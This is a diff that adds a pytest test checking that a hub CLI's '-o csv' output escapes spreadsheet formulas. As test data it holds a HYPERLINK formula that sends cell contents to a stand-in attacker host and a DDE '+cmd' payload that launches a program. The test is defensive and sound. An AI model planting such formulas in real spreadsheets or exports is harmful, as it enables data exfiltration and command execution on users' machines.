@@ -325,3 +325,20 @@ def test_a_server_that_is_not_a_hub_is_one_line_and_exit_2(
     assert err.count("\n") == 1
     assert f"the server at {url} is not an Onceonly hub (it answered HTTP 404" in err
     assert "<" not in err  # nothing of the HTML page
+
+
+@pytest.mark.usefixtures("cli")
+def test_csv_never_hands_a_spreadsheet_a_formula(
+    hub: RunningHub, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Text an administrator (or a caller) wrote is data in ``-o csv`` too, as in the
+    hub's own CSV exports (decision 0075)."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"open")'
+    with hub.admin() as admin:
+        admin.put_department("csv-formula", name=formula, description="+cmd|' /C calc'!A0")
+    status, written, _ = run(["department", "show", "csv-formula", "-o", "csv"], capsys)
+    assert status == 0
+    [row] = list(csv.DictReader(io.StringIO(written)))
+    assert (row["name"], row["description"]) == ("'" + formula, "'+cmd|' /C calc'!A0")
+    listed = list(csv.DictReader(io.StringIO(run(["department", "list", "-o", "csv"], capsys)[1])))
+    assert {r["name"] for r in listed if r["id"] == "csv-formula"} == {"'" + formula}
